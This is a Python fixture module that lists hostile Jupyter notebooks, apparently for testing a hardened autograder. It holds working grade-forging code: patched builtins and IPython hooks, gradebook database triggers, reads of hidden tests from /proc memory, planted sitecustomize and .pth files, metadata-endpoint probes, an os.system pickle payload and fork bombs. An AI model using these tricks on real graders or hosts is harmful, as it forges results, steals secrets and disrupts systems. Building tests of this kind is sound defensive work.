"""Tricks: one table of hostile notebooks, each with the marks it honestly deserves.

Those here answer one exercise (`SOURCE`, five questions of one point); ``leaning.py`` adds some
that need a question of their own. A trick answers nothing unless its line says so; what it earns
beyond ``honest`` is forged, and what it finds out of ``secrets`` is stolen. ``stock.py`` gives the
very same files to stock nbgrader.
"""

import copy
from collections.abc import Callable
from dataclasses import dataclass, field

from notebooks import answered, as_bytes, code, notebook, solution, test

SETUP = """
import math, random
data = [10, 20, 30]
def check(value, wanted):
    return value == wanted
"""
SOURCE = notebook(
    code(SETUP),
    solution("s1", "### BEGIN SOLUTION\ntong = sum(data)\n### END SOLUTION"),
    test(
        "t1",
        "assert check(tong, 60), 'Tổng chưa đúng'\n"
        "### BEGIN HIDDEN TESTS\nassert len(data) == 3 and tong == sum(data)\n"
        "### END HIDDEN TESTS",
    ),
    solution("s2", "### BEGIN SOLUTION\ndef nhan(a, b):\n    return a * b\n### END SOLUTION"),
    test(
        "t2",
        "assert nhan(2, 3) == 6, 'Tích chưa đúng'\n### BEGIN HIDDEN TESTS\n"
        "for _ in range(3):\n    a, b = random.randint(100, 999), random.randint(100, 999)\n"
        "    assert nhan(a, b) == a * b\n### END HIDDEN TESTS",
    ),
    solution(
        "s3",
        "### BEGIN SOLUTION\nimport pandas as pd\n"
        "bang = pd.DataFrame({'ten': ['a', 'b'], 'diem': [7.5, 9.0]})\n### END SOLUTION",
    ),
    test(
        "t3",
        "import numpy as np\nimport pandas as pd\nassert isinstance(bang, pd.DataFrame)\n"
        "### BEGIN HIDDEN TESTS\nassert np.allclose(bang['diem'].to_numpy(), [7.5, 9.0])\n"
        "pd.testing.assert_frame_equal("
        "bang, pd.DataFrame({'ten': ['a', 'b'], 'diem': [7.5, 9.0]}))\n### END HIDDEN TESTS",
    ),
    solution("s4", "### BEGIN SOLUTION\ndiem = 7.5\n### END SOLUTION"),
    test(
        "t4",
        "assert isinstance(diem, float)\n### BEGIN HIDDEN TESTS\n"
        "assert 7.4 < diem < 7.6 and abs(diem - 7.5) < 0.01 and math.isclose(diem, 7.5)\n"
        "### END HIDDEN TESTS",
    ),
    solution("s5", "### BEGIN SOLUTION\ndef cong(ds):\n    return sum(ds)\n### END SOLUTION"),
    test(
        "t5",
        "### BEGIN HIDDEN TESTS\nxs = [3, 5, 8]\nassert cong(xs) == sum(xs), 'Cộng chưa đúng'\n"
        "assert cong(data) == 60\n### END HIDDEN TESTS",
    ),
)
NOTHING = dict.fromkeys(("s1", "s2", "s3", "s4", "s5"), "raise NotImplementedError()")
EVERYTHING = {
    "s1": "tong = 60",
    "s2": "def nhan(a, b):\n    return a * b",
    "s3": "import pandas as pd\nbang = pd.DataFrame({'ten': ['a', 'b'], 'diem': [7.5, 9.0]})",
    "s4": "diem = 7.5",
    "s5": "def cong(ds):\n    return sum(ds)",
}


SECRETS = ("randint", "allclose", "assert", "HIDDEN", "[3, 5, 8]", "7.4")  # of the hidden tests


@dataclass(frozen=True)
class Trick:
    """``raw``: the file itself, where no notebook of ours would say it."""

    name: str
    notebook: dict
    honest: float = 0.0
    source: dict = field(default_factory=lambda: SOURCE)
    secrets: tuple[str, ...] = SECRETS
    raw: bytes | None = None

    @property
    def content(self) -> bytes:
        return self.raw if self.raw is not None else as_bytes(self.notebook)

    @property
    def max(self) -> float:
        marking = [cell["metadata"].get("nbgrader", {}) for cell in self.source["cells"]]
        return sum(one.get("points", 0) for one in marking if one.get("grade"))


TRICKS: list[Trick] = []


def first(name: str, source: str, *, honest=0.0, **others: str) -> None:
    """A trick in the first solution cell; ``others`` replace further cells."""
    answers = NOTHING | {"s1": source} | others
    TRICKS.append(Trick(name, answered(SOURCE, **answers), honest))


def shaped(name: str, change: Callable[[dict], None], *, honest=0.0) -> None:
    """A trick in the notebook's own JSON."""
    found = copy.deepcopy(answered(SOURCE, **NOTHING))
    change(found)
    TRICKS.append(Trick(name, found, honest))


# The shell --------------------------------------------------------------------------------------

first(
    "displayhook hands in a number",
    "ip = get_ipython()\nip.events.register('pre_run_cell', lambda *a: ip.displayhook(1.0))",
)
first(
    "AST transformer drops asserts",
    "import ast\nclass T(ast.NodeTransformer):\n    def visit_Assert(self, node):\n"
    "        return ast.Pass()\nget_ipython().ast_transformers.append(T())",
)
first(
    "AST transformer empties every cell",
    "import ast\nclass T(ast.NodeTransformer):\n    def visit_Module(self, node):\n"
    "        node.body = []\n        return node\nget_ipython().ast_transformers.append(T())",
)
first(
    "input transformer empties every cell",
    "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])",
)
first(
    "run_cell_async replaced",
    "ip = get_ipython()\nfrom IPython.core.interactiveshell import ExecutionResult\n"
    "async def nothing(*a, **k):\n    return ExecutionResult(None)\nip.run_cell_async = nothing",
)
first(
    "run_ast_nodes replaced",
    "ip = get_ipython()\nasync def nothing(*a, **k):\n    return False\nip.run_ast_nodes = nothing",
)
first(
    "showtraceback silenced",
    "ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\n"
    "ip._showtraceback = lambda *a, **k: None",
)
first(
    "custom exception handler swallows errors",
    "ip = get_ipython()\nip.set_custom_exc((Exception,), lambda self, *a, **k: None)",
)
first(
    "a thousand and one lines before the error",
    "ip = get_ipython()\n"
    "ip.events.register('pre_run_cell', lambda *a: print('\\n'.join(map(str, range(1001)))))",
)
first("asks the shell to exit", "get_ipython().ask_exit()\nget_ipython().exit_now = True")
first(
    "user namespace that lies",
    "class D(dict):\n    def __missing__(self, key):\n        return 60\n"
    "ip = get_ipython()\nip.user_ns = D(ip.user_ns)\nip.user_module.__dict__.update(ip.user_ns)",
)
first("cell magic swallows the cell", "%%javascript\nalert(1)")

# Python's own names -----------------------------------------------------------------------------

first(
    "equal to everything",
    "class E:\n    def __eq__(self, o): return True\n    def __ne__(self, o): return False\n"
    "    __hash__ = None\ntong = E()",
    s4="diem = tong",
    s2="def nhan(a, b):\n    return E()",
    s5="def cong(ds):\n    return E()",
)
MAGIC = """
class Any:
    def __eq__(self, o): return True
    def __ne__(self, o): return False
    def __lt__(self, o): return True
    __le__ = __gt__ = __ge__ = __contains__ = __lt__
    def __float__(self): return 7.5
    def __sub__(self, o): return 0.0
    __add__ = __rsub__ = __radd__ = __mul__ = __rmul__ = __sub__
    def __abs__(self): return 0.0
    def __bool__(self): return True
    def __len__(self): return 3
    def __getattr__(self, n): return self
    def __call__(self, *a, **k): return self
    def __iter__(self): return iter([self] * 3)
    def __getitem__(self, k): return self
    def __array__(self, *a, **k):
        import numpy as np
        return np.array([7.5, 9.0])
    @property
    def __class__(self): return float
"""
first(
    "an object that is whatever is asked",
    MAGIC + "tong = Any()",
    s2="nhan = Any()",
    s3="bang = Any()",
    s4="diem = Any()",
    s5="cong = Any()",
)
first(
    "subclasses of int, float and list that are always equal",
    "class I(int):\n    __eq__ = lambda s, o: True\n    __hash__ = int.__hash__\ntong = I(1)",
    s4="class F(float):\n    __lt__ = __gt__ = __eq__ = lambda s, o: True\n"
    "    __sub__ = lambda s, o: 0.0\n    __hash__ = float.__hash__\ndiem = F(1.0)",
    s2="class L(int):\n    __eq__ = lambda s, o: True\ndef nhan(a, b):\n    return L(1)",
)
first(
    "a DataFrame subclass that equals",
    "tong = 0",
    s3="import pandas as pd\nclass B(pd.DataFrame):\n    def equals(self, o): return True\n"
    "    def __getitem__(self, k): return self\nbang = B({'diem': [0]})",
)
first(
    "__class__ lies about the type",
    "class C:\n    @property\n    def __class__(self): return float\n"
    "    __lt__ = __gt__ = lambda s, o: True\n    __sub__ = lambda s, o: 0.0\ntong = C()",
    s4="diem = C()",
)
first(
    "builtins replaced",
    "import builtins\nbuiltins.len = lambda x: 3\nbuiltins.sum = lambda x: 0\ntong = 0\n"
    "builtins.isinstance = lambda *a: True\nbuiltins.abs = lambda x: 0.0\n"
    "builtins.range = lambda *a: []",
    s5="def cong(ds):\n    return 0",
)
first(
    "AssertionError replaced by something that cannot be raised",
    "import builtins\nclass Quiet(BaseException):\n    def __new__(cls, *a): raise SystemExit(0)\n"
    "builtins.AssertionError = Quiet",
)
first("helper and data overwritten", "check = lambda *a: True\ndata = [0, 0, 0]\ntong = 0")
first(
    "data changed in place",
    "data.clear()\ndata.extend([0, 0, 0])\ntong = 0",
)
first(
    "argument emptied to spoil the expectation",
    "tong = 0",
    s5="def cong(ds):\n    ds.clear()\n    return 0",
)
first(
    "test's function taken by name",
    "def __getattr__(name): return lambda *a: True\ncheck = math = random = None",
)
first(
    "libraries' comparisons replaced",
    "import numpy as np, pandas as pd, math\nnp.allclose = lambda *a, **k: True\n"
    "pd.testing.assert_frame_equal = lambda *a, **k: None\nmath.isclose = lambda *a, **k: True\n"
    "import random\nrandom.randint = lambda a, b: 0",
    s2="def nhan(a, b):\n    return 6 if (a, b) == (2, 3) else 0",
    s3="bang = pd.DataFrame({'ten': ['x'], 'diem': [0.0]})",
    s4="diem = 0.0",
)
first(
    "modules replaced",
    "import sys, types\nfake = types.ModuleType('fake')\n"
    "fake.__getattr__ = lambda name: (lambda *a, **k: True)\n"
    "for name in ('numpy', 'pandas', 'math', 'random'):\n    sys.modules[name] = fake\n"
    "np = pd = math = random = fake",
    s3="bang = fake",
    s4="diem = 0.0",
)
first(
    "import hook answers imports",
    "import sys, types, importlib.abc, importlib.machinery\n"
    "class F(importlib.abc.MetaPathFinder, importlib.abc.Loader):\n"
    "    def find_spec(self, name, path=None, target=None):\n"
    "        return importlib.machinery.ModuleSpec(name, self)\n"
    "    def create_module(self, spec): return types.ModuleType(spec.name)\n"
    "    def exec_module(self, m): m.__getattr__ = lambda n: (lambda *a, **k: True)\n"
    "sys.meta_path.insert(0, F())\n"
    "for n in ('numpy', 'pandas', 'math'):\n    sys.modules.pop(n, None)",
)
first(
    "names that only look alike",
    "tоng = 60",  # the o is Cyrillic
    s4="dіem = 7.5",
)

# Looking and reaching ---------------------------------------------------------------------------

first(
    "frames of the caller",
    "tong = 0",
    s2="import inspect\ndef nhan(a, b):\n    for f in inspect.stack():\n"
    "        for name, value in {**f.frame.f_globals, **f.frame.f_locals}.items():\n"
    "            if name in ('wanted', 'expected'):\n                return value\n"
    "    f = inspect.currentframe().f_back\n"
    "    f.f_globals['assert'] = None\n    return 6",
)
first(
    "settrace jumps over the lines of tests",
    "import sys\ndef trace(frame, event, arg):\n"
    "    if event == 'line' and 'ipython-input' in frame.f_code.co_filename:\n"
    "        try:\n"
    "            frame.f_lineno = max(frame.f_code.co_lines(), key=lambda l: l[2] or 0)[2]\n"
    "        except Exception: pass\n    return trace\nsys.settrace(trace)\n"
    "import threading\nthreading.settrace(trace)",
)
first("setprofile raises SystemExit", "import sys\nsys.setprofile(lambda *a: None)")
first(
    "gc looks for the tests",
    "import gc, re\nfound = [o for o in gc.get_objects() if isinstance(o, (str, dict, tuple))]\n"
    "texts = [s for o in found for s in (o.values() if isinstance(o, dict) else o)\n"
    "         if isinstance(s, str) and 'HIDDEN TESTS' in s]\n"
    "exec(re.findall(r'tong == (\\d+)', texts[0])[0] and 'tong = 60')",
)
first(
    "reads the source notebook wherever it lies",
    "import json, os\n"
    "for root in ('..', '../..', '../../..', '../../../..', '/home', '/work', '/tmp', '/'):\n"
    "    for folder, _, names in os.walk(root):\n        for n in names:\n"
    "            if n.endswith('.ipynb') and '/proc' not in folder:\n"
    "                try:\n                    nb = json.load(open(os.path.join(folder, n)))\n"
    "                except Exception: continue\n"
    "                for c in nb.get('cells', []):\n"
    "                    text = ''.join(c['source'])\n"
    "                    if 'BEGIN SOLUTION' in text and 'tong = sum' in text:\n"
    "                        exec(text, globals())\n"
    "    if 'tong' in globals(): break",
)
first(
    "writes to the gradebook",
    "import sqlite3, glob\n"
    "for up in ('.', '..', '../..', '../../..', '../../../..'):\n"
    "    for path in glob.glob(up + '/gradebook.db'):\n        c = sqlite3.connect(path)\n"
    "        c.execute('create trigger t after update on grade begin update grade set "
    "manual_score = 1 where id = new.id; end')\n"
    "        c.execute('create trigger u after insert on grade begin update grade set "
    "manual_score = 1 where id = new.id; end')\n"
    "        c.execute('update grade set manual_score = 1')\n        c.commit()",
)
first(
    "process memory through /proc",
    "import os, re\nfor pid in os.listdir('/proc'):\n    if pid.isdigit():\n        try:\n"
    "            maps = open(f'/proc/{pid}/maps').read()\n"
    "            mem = open(f'/proc/{pid}/mem', 'rb')\n"
    "            environ = open(f'/proc/{pid}/environ', 'rb').read()\n"
    "        except OSError: continue",
)
first(
    "ctypes rewrites small integers",
    "import ctypes\nctypes.memmove(id(60) + 24, id(1) + 24, 4)\ntong = 1",
)
first(
    "ptrace on whoever is there",
    "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    "for pid in range(1, 60):\n    if pid != os.getpid():\n        libc.ptrace(16, pid, 0, 0)",
)
first(
    "forged frames on every open descriptor",
    "import os, json, struct\n"
    "for said in ({'outcomes': [{'error': None, 'result': None}], 'broken': False},\n"
    "             {'r': 60}, {'ok': True, 'nonce': None, 'result': '1.0'}):\n"
    "    body = json.dumps(said).encode()\n"
    "    for fd in range(3, 40):\n        try: os.write(fd, struct.pack('>I', len(body)) + body)\n"
    "        except OSError: pass",
)
first(
    "closes every descriptor",
    "import os\nos.closerange(3, 256)",
)
first(
    "our own codec turned round",
    "import sys\ntry:\n    import graders.strict.between.codec as c\n"
    "    import graders.strict.learner.program as l\n"
    "    c.Encoder.encode = lambda self, value: ['k', 0]\n"
    "    l.Encoder.encode = c.Encoder.encode\n"
    "    l.Learner._say = lambda self, value: {'r': ['mod', 'os'], 'ch': [[0, 1]]}\n"
    "except ImportError: pass\ntong = 1",
    s2="def nhan(a, b):\n    return 1",
    s5="def cong(ds):\n    return 1",
)
first(
    "answers with changes nobody asked for",
    "try:\n    import graders.strict.learner.program as l\n    say = l.Learner._call\n"
    "    def forged(self, target, positional, named, table, restore):\n"
    "        return {'r': 0, 'changed': False, 'ch': [[n, ['l', []]] for n in range(len(table))]}\n"
    "    l.Learner._call = forged\nexcept ImportError: pass",
    s5="def cong(ds):\n    return 0",
)
first(
    "claims its module is the test's",
    "try:\n    import graders.strict.learner.program as l\n"
    "    l.Learner._say = lambda self, value: {'r': ['mod', '__main__']}\n"
    "except ImportError: pass\ntong = 1",
    s4="diem = 1.0",
)
first(
    "thread that changes things later",
    "import threading, time, builtins\ndef later():\n    while True:\n"
    "        get_ipython().user_ns['data'] = [0, 0, 0]\n        time.sleep(0.001)\n"
    "threading.Thread(target=later, daemon=True).start()\ntong = 0",
)
first(
    "sitecustomize and .pth files",
    "import site, sys, os\ntext = 'import builtins; builtins.sum = lambda x: 0'\n"
    "for folder in [*sys.path, *site.getsitepackages(), os.path.expanduser('~')]:\n"
    "    for name in ('sitecustomize.py', 'usercustomize.py', 'x.pth', 'random.py', 'math.py'):\n"
    "        try: open(os.path.join(folder or '.', name), 'a').write(text)\n"
    "        except OSError: pass\ntong = 0",
)
first(
    "writes into the grader's own package",
    "try:\n    import graders\n    open(graders.__file__, 'a').write('1/0')\n"
    "except (ImportError, OSError): pass",
)
first(
    "a module of its own in the working folder",
    "for name in ('numpy', 'pandas', 'math', 'random', 'statistics'):\n"
    "    open(name + '.py', 'w').write('import builtins; builtins.sum = lambda x: 0')\n"
    "statistics = 1\ntong = 0",
    s5="def cong(ds):\n    return 0",
)
first(
    "symlinks and odd files",
    "import os\nfor n, target in (('a.csv', '/etc/passwd'), ('b', '/proc/self/mem'), ('c', '.')):\n"
    "    os.symlink(target, n)\nos.mkfifo('pipe')\nopen('x' * 200, 'w').write('x')",
)
first(
    "sockets to the host",
    "import socket\n"
    "for where in (('127.0.0.1', 22), ('169.254.169.254', 80), ('127.0.0.1', 8081)):\n"
    "    try: socket.create_connection(where, 0.2)\n    except OSError: pass\n"
    "try: socket.socket(socket.AF_UNIX).connect('\\0x')\nexcept OSError: pass",
)
first(
    "environment searched for secrets",
    "import os\ntong = os.environ.get('MOTCHAM_SECRET', 0)",
)
first(
    "monkeypatched time and randomness",
    "import time, random\ntime.time = lambda: 0\nrandom.seed(1)\nrandom.random = lambda: 0.5\n"
    "random.randint = lambda a, b: a\nrandom._inst.randint = random.randint",
    s2="def nhan(a, b):\n    return 6 if a == 2 else 100 * 100",
)

# What crosses the wall --------------------------------------------------------------------------

first(
    "hostile __reduce__",
    "import os\nclass R:\n    def __reduce__(self):\n        return (os.system, ('echo pwned',))\n"
    "tong = R()",
    s2="def nhan(a, b):\n    return R()",
)
first(
    "huge answer",
    "tong = 'x' * 200_000_000",
    s2="def nhan(a, b):\n    return [0] * 30_000_000",
)
first(
    "answer nested without end",
    "tong = []\nfor _ in range(100_000):\n    tong = [tong]",
    s2="def nhan(a, b):\n    x = []\n    x.append(x)\n    return x",
)
first(
    "billion laughs",
    "tong = ('x',)\nfor _ in range(60):\n    tong = (tong, tong)",
)
first(
    "infinite generator",
    "import itertools\ntong = itertools.count()",
    s2="def nhan(a, b):\n    while True:\n        yield a",
)
first(
    "keys that collide",
    "tong = {k * (2**61 - 1): 0 for k in range(1)}",
    s2="def nhan(a, b):\n    return {k * (2**61 - 1): 0 for k in range(200)}",
)
first(
    "integer of a million digits",
    "tong = 10 ** 1_000_000",
    s4="diem = float('nan')",
)
first(
    "exceptions that are not",
    "class X(BaseException):\n    def __str__(self): raise SystemExit\n    __class__ = int\n",
    s2="def nhan(a, b):\n    raise X()",
    s5="def cong(ds):\n    raise StopIteration",
)
first(
    "SystemExit, KeyboardInterrupt and SkipTest",
    "import unittest\nraise SystemExit(0)",
    s2="def nhan(a, b):\n    raise KeyboardInterrupt",
    s4="raise KeyboardInterrupt",
    s5="import unittest\ndef cong(ds):\n    raise unittest.SkipTest('ok')",
)
first(
    "names of the test's own outcome",
    "class TestTimeout(BaseException): pass\nclass LearnerGone(Exception): pass",
    s2="def nhan(a, b):\n    raise TestTimeout",
)

first(
    "a length without items",
    "class Dai:\n    def __len__(self): return 3\n    def __iter__(self): return iter(())\n"
    "tong = Dai()",
    s3="bang = tong",
    s5="def cong(ds):\n    return tong",
)
first(
    "the setup's file rewritten",
    "open('so.csv', 'w').write('0')\ntong = 0",
    s5="def cong(ds):\n    open('so.csv', 'w').write('0')\n    return 0",
)

# Denial -----------------------------------------------------------------------------------------

first("os._exit", "import os\nos._exit(0)", honest=1.0, s4="diem = 7.5")
first(
    "os._exit within a test",
    "tong = 60",
    honest=2.0,
    s2="import os\ndef nhan(a, b):\n    os._exit(0)",
    s4="diem = 7.5",
)
first(
    "kills itself and all it can reach",
    "import os, signal\nos.kill(os.getppid(), signal.SIGKILL) if os.getppid() else None\n"
    "os.kill(-1, signal.SIGKILL)\nos.kill(os.getpid(), signal.SIGKILL)",
    honest=1.0,
    s4="diem = 7.5",
)
first("segfault", "import ctypes\nctypes.string_at(0)", honest=1.0, s4="diem = 7.5")
first(
    "endless print",
    "while True:\n    print('x' * 1000)",
    honest=1.0,
    s4="diem = 7.5",
)
first("endless loop", "while True:\n    pass", honest=1.0, s4="diem = 7.5")
first(
    "loop that swallows interrupts",
    "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    honest=1.0,
    s4="diem = 7.5",
)
first(
    "loop within C",
    "import itertools, collections\ncollections.deque(itertools.repeat(0), maxlen=0)",
    honest=1.0,
    s4="diem = 7.5",
)
first(
    "loop within a test",
    "tong = 60",
    honest=2.0,
    s2="def nhan(a, b):\n    while True:\n        try:\n            while True: pass\n"
    "        except BaseException: pass",
    s4="diem = 7.5",
)
first(
    "memory",
    "x = []\nwhile True:\n    x.append(bytearray(50_000_000))",
    honest=1.0,
    s4="diem = 7.5",
)
first(
    "fork bomb",
    "import os, time\nend = time.time() + 3\nwhile time.time() < end:\n    try: os.fork()\n"
    "    except OSError: time.sleep(0.01)",
    honest=1.0,
    s4="diem = 7.5",
)
first(
    "files without end",
    "i = 0\nwhile i < 3000:\n    open(f'f{i}.csv', 'w').write('x' * 100_000)\n    i += 1",
    honest=1.0,
    s4="diem = 7.5",
)

# The notebook itself ----------------------------------------------------------------------------


def _tests(found: dict) -> list[dict]:
    return [c for c in found["cells"] if c["metadata"].get("nbgrader", {}).get("grade")]


def _skip(found: dict) -> None:
    for cell in _tests(found):
        cell["metadata"]["tags"] = ["skip-execution"]


def _passes(found: dict) -> None:
    for cell in _tests(found):
        cell["source"] = "pass"


def _points(found: dict) -> None:
    for cell in _tests(found):
        cell["metadata"]["nbgrader"]["points"] = 100


def _unlocked(found: dict) -> None:
    for cell in _tests(found):
        cell["metadata"]["nbgrader"].update(locked=False, solution=True)
        cell["source"] = "pass"


def _markdown(found: dict) -> None:
    for cell in _tests(found):
        cell["cell_type"] = "markdown"
        cell["source"] = "pass"
        cell.pop("outputs", None), cell.pop("execution_count", None)


def _deleted(found: dict) -> None:
    tests = _tests(found)
    found["cells"] = [cell for cell in found["cells"] if cell not in tests]


def _duplicated(found: dict) -> None:
    for cell in _tests(found):
        found["cells"].append(cell | {"source": "1.0"})


def _swapped(found: dict) -> None:
    for cell in found["cells"]:
        marking = cell["metadata"].get("nbgrader")
        if marking:
            marking["grade_id"] = marking["grade_id"].translate(str.maketrans("st", "ts"))


def _outputs(found: dict) -> None:
    for cell in _tests(found):
        cell["outputs"] = [
            {
                "output_type": "execute_result",
                "execution_count": 1,
                "metadata": {},
                "data": {"text/plain": "1.0"},
            }
        ]


def _moved(found: dict) -> None:
    """Tests before anything else, so that names do not exist yet."""
    tests = _tests(found)
    found["cells"] = tests + [cell for cell in found["cells"] if cell not in tests]


def _strange_ids(found: dict) -> None:
    for cell in _tests(found):
        cell["metadata"]["nbgrader"]["grade_id"] = ["t1", {"a": 1}]
        cell["metadata"]["nbgrader"]["points"] = "1e999"


def _kernel(found: dict) -> None:
    found["metadata"]["kernelspec"] = {"name": "bash", "display_name": "x", "language": "bash"}


shaped("skip-execution tag on test cells", _skip)
shaped("test cells that only pass", _passes)
shaped("points raised", _points)
shaped("test cells unlocked and made solutions", _unlocked)
shaped("test cells made markdown", _markdown)
shaped("test cells deleted", _deleted)
shaped("test cells duplicated", _duplicated)
shaped("grade ids swapped between tests and solutions", _swapped)
shaped("outputs written beforehand", _outputs)
shaped("tests moved to the top", _moved)
shaped("metadata of impossible types", _strange_ids)
shaped("another kernel", _kernel)


def _numbered(found: dict) -> None:
    for number, cell in enumerate(_tests(found)):
        cell["execution_count"] = number + 1
        cell["metadata"]["nbgrader"] |= {"score": 1, "auto_score": 1.0, "needs_manual_grade": False}


def _lookalikes(found: dict) -> None:
    """Ids that only look like those of the tests, with a full mark of their own."""
    for cell in _tests(found):
        marking = dict(cell["metadata"]["nbgrader"])
        marking["grade_id"] = marking["grade_id"].replace("t", "т")
        found["cells"].append(cell | {"metadata": {"nbgrader": marking}, "source": "1"})


def _odd_metadata(found: dict) -> None:
    for cell in _tests(found):
        cell["metadata"] = {"nbgrader": [True, 1e308], "tags": {"skip-execution": True}}
    found["metadata"] = {"language_info": {"name": 3}, "widgets": [[]] * 50}


def _attached(found: dict) -> None:
    for cell in found["cells"]:
        cell["attachments"] = {"../../x.png": {"image/png": "AAAA", "text/html": "<script>"}}


shaped("scores and execution counts written into the file", _numbered)
shaped("grade ids that only look alike", _lookalikes)
shaped("metadata that is a list", _odd_metadata)
shaped("attachments on every cell", _attached)


def written(name: str, change: Callable[[str], str]) -> None:
    """A trick in the text of the file."""
    found = answered(SOURCE, **NOTHING)
    TRICKS.append(Trick(name, found, raw=change(as_bytes(found).decode()).encode()))


written(
    "duplicate keys in the file",
    lambda text: text.replace('"grade": true', '"grade": true, "points": 0, "grade": false'),
)
written("NaN as points", lambda text: text.replace('"points": 1', '"points": NaN'))
written(
    "metadata nested without end",
    lambda text: text.replace('"metadata": {}', '"metadata": {"x": ' + "[" * 500 + "]" * 500 + "}"),
)

# What crosses the wall, said by hand -------------------------------------------------------------

LEARNER = """
import gc
L = next((o for o in gc.get_objects() if type(o).__name__ == 'Learner' and hasattr(o, 'objects')),
         None)
"""
ODD_ANSWERS = """
import itertools
odd = itertools.cycle([
    ['i', '0x3b'], ['f', 'nan'], ['nd', '<i8', [-1], ''], ['no', [0], []], ['ty', 'object'],
    ['k', -1], ['k', 0], ['a', 0], ['=', 0], ['T', 5], ['o', 1, 1], ['mod', 'builtins'],
    ['mod', 'unittest.__main__'], ['np', '<f8', 'AAAAAAAAHEA='], ['dd', ['ty', 'int'], []],
    ['l', {}], [], {}, True, 1e999, ['s', '7bSA'],
    ['o', 7, [7, 'float', [], ['__eq__', '__lt__', '__sub__', '__abs__'], 'function', None, '']],
])
if L is not None:
    type(L)._say = lambda self, value: {'r': next(odd), 'changed': False}
    type(L)._call = lambda self, *a: {'r': next(odd), 'changed': 7, 'ch': [[0, ['l', []]]]}
tong = 0
"""
first(
    "every odd answer of the codec",
    LEARNER + ODD_ANSWERS,
    s2="def nhan(a, b):\n    return 0",
    s3="bang = 0",
    s4="diem = 0",
    s5="def cong(ds):\n    return 0",
)
first(
    "answers sent before anything was asked",
    LEARNER + "if L is not None and L.link is not None:\n    for n in range(200):\n"
    "        L.link.send({'r': 61, 'method': True, 'changed': False, 'code': ['d', []]})\ntong = 0",
    s5="def cong(ds):\n    return 0",
)
GRANDCHILD = """
import os, time
if L is not None and L.link is not None and os.fork() == 0:
    os.setsid()
    end = time.time() + 2
    while time.time() < end:
        try:
            L.link.send({'r': 61})
        except Exception:
            break
        time.sleep(0.01)
    os._exit(0)
tong = 0
"""
first("a grandchild that answers in the learner's place", LEARNER + GRANDCHILD)
MEMORY = """
import re
words = [b'BEGIN [H]IDDEN TESTS', b'tong == [s]um']  # no text that its own would match
stolen = set()
for line in open('/proc/self/maps'):
    start, end, rights = re.match(r'([0-9a-f]+)-([0-9a-f]+) (\\S+)', line).groups()
    start, end = int(start, 16), int(end, 16)
    if rights.startswith('rw') and end - start < 200_000_000:
        try:
            with open('/proc/self/mem', 'rb', 0) as memory:
                memory.seek(start)
                block = memory.read(end - start)
        except (OSError, ValueError, OverflowError):
            continue
        stolen |= {word for word in words if re.search(word, block)}
if len(stolen) == 2:
    tong = 60
"""
first("its own memory searched for what the parent knew", MEMORY)
DESCRIPTORS = """
import os
found = []
for fd in os.listdir('/proc/self/fd'):
    try:
        os.set_blocking(int(fd), False)
        found.append(os.read(int(fd), 9999))
    except OSError:
        pass
if any(b'tong == sum' in one for one in found):
    tong = 60
"""
first("every inherited descriptor read", DESCRIPTORS)
LAST_WORDS = """
import atexit, os, struct, json
def last():
    body = json.dumps({'r': 60, 'ok': True}).encode()
    for fd in (3, 4):
        try:
            os.write(fd, struct.pack('>I', len(body)) + body)
        except OSError:
            pass
atexit.register(last)
raise SystemExit
"""
first("last words at the exit", LAST_WORDS)
CONVENTIONS = r"""
code = 'import builtins\nbuiltins.sum = lambda x: 0\n'
for name in ('conftest.py', 'usercustomize.py', 'sitecustomize.py', 'test_a.py', 'pandas.py',
             'setup.py', '__init__.py', '__main__.py', 'numpy.so', 'x.pth'):
    open(name, 'w').write(code)
for name in ('matplotlibrc', 'pyproject.toml', 'setup.cfg', 'pytest.ini', 'tox.ini'):
    open(name, 'w').write('[pytest]\naddopts = --collect-only\nbackend: module://test_a\n')
tong = 0
"""
first(
    "files that Python and its friends read by themselves",
    CONVENTIONS,
    s5="def cong(ds):\n    return 0",
)
ERRORS = """
class B(Exception):
    def __str__(self): return 'x' * 10**7
    __repr__ = __str__
    @property
    def args(self): raise SystemExit
    __traceback__ = property(lambda self: None)
raise B() from ExceptionGroup('g', [B()])
"""
first(
    "tracebacks, causes and groups as errors",
    ERRORS,
    s2="def nhan(a, b):\n    raise ExceptionGroup('g', [AssertionError(), StopIteration()])",
    s5="def cong(ds):\n    e = StopIteration(sum(ds))\n    e.__cause__ = e\n    raise e",
)
ZONE = """
import datetime as dt
class Z(dt.tzinfo):
    def utcoffset(self, t): return dt.timedelta(0)
    def __eq__(self, o): return True
    __hash__ = None
tong = dt.datetime(2020, 1, 1, tzinfo=Z())
"""
first(
    "dates, columns and arrays of kinds of their own",
    ZONE,
    s2="import numpy as np\ndef nhan(a, b):\n"
    "    return np.array([(6, 6)], dtype=[('a', 'i8'), ('b', object)])",
    s3="import numpy as np, pandas as pd\nclass S(str):\n    def __eq__(self, o): return True\n"
    "    __hash__ = str.__hash__\n"
    "bang = pd.DataFrame({S('diem'): pd.array([S('x')], dtype=object)})",
    s4="import numpy as np\nclass F(np.float64):\n    def __lt__(self, o): return True\n"
    "    __gt__ = __lt__\ndiem = F(0)",
)
first(
    "escape sequences, scripts and braces in errors",
    "raise ValueError('\\x1b]0;x\\x07<script>alert(1)</script>{0.__class__}{error}%s')",
    s2="def nhan(a, b):\n    raise ValueError('{line}{0}' * 50 + '\\x00\\ud800')",
)
first(
    "signals that are ignored and blocked",
    "import signal\nfor s in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:\n"
    "    try: signal.signal(s, signal.SIG_IGN)\n    except (OSError, ValueError): pass\n"
    "signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())\ntong = 60",
    honest=2.0,
    s2="def nhan(a, b):\n    while True: pass",
    s4="diem = 7.5",
)
